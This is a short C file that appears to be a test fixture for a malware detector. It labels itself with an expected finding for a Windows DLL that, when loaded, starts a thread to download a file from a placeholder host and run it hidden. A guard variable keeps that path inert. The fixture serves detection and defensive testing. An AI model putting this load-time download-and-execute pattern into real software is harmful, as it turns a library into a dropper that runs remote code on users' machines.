/* A DLL that fetches and starts something when it is loaded, in a thread.
 * expect: native-load-fetches-and-starts-windows
 * for: windows
 * flags: -O2 -shared -lurlmon
 */
#include <windows.h>
#include <urlmon.h>

static volatile int never;

static DWORD WINAPI work(LPVOID a) {
    (void)a;
    if (!never) return 0;
    URLDownloadToFileA(0, "http://x.invalid/a", "C:\\nonexistent\\a.exe", 0, 0);
    return WinExec("C:\\nonexistent\\a.exe", SW_HIDE);
}

__declspec(dllexport) int example(void) { return 3; }

BOOL WINAPI DllMain(HINSTANCE h, DWORD why, LPVOID x) {
    (void)h, (void)x;
    if (why == DLL_PROCESS_ATTACH) CreateThread(0, 0, work, 0, 0, 0);
    return TRUE;
}
